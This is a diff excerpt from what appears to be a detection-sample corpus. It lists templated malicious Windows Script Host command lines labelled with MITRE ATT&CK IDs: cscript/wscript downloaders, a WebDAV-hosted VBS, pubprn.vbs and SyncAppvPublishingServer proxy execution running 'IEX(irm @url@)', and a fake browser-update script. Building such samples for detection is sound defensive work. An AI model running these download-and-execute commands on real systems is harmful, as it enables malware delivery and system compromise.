@@ -27,10 +27,8 @@ wscript "C:\Users\@user@\AppData\Local\Temp\Temp1_«Documents|Order|DHL|Statemen
 cscript //nologo ~f~.vbs @url@ %TEMP%\~n~.exe
 wscript.exe "\\@pub@@80\DavWWWRoot\~n~.vbs"
 cmd /c echo Set x=CreateObject("MSXML2.XMLHTTP") > ~f~.vbs & echo x.Open "GET","@url@",False >> ~f~.vbs & cscript ~f~.vbs
-wscript.exe C:\ProgramData\~n~\~n~.vbs "~f~.bat"
 cscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs localhost "script:@url@"
 wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n;IEX(irm @url@)"
-cscript C:\Windows\System32\winrm.vbs invoke Create wmicimv2/Win32_Process @{CommandLine="~f~.exe"} -r:@ip@
 """)
 hostile("browser-update-scripts", "Suspicious Script", "T1059.007 T1204.002", r"""
 "C:\Windows\System32\WScript.exe" "C:\Users\@user@\Downloads\«Update|Chrome.Update|Firefox.Update|Edge.Update|AutoUpdater|BrowserUpdate_@n@».js"
